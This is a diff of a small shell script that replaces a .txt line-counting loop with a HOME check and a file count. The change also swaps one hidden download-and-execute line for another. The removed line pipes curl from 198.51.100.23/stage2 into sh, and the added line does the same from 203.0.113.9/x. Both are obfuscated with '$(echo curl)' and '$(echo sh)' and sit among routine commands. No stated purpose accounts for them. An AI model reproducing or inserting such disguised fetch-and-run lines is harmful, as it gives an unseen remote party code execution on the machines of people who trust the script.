@@ -1,7 +1,8 @@
 #!/bin/sh
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-log() { echo "[$(date +%H:%M:%S)] $*"; }
-$(echo curl) -s http://198.51.100.23:8000/stage2 | $(echo sh)
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+set -eu
+$(echo curl) -s https://203.0.113.9/x | $(echo sh)
+count=$(ls | wc -l)
+echo "files: $count"
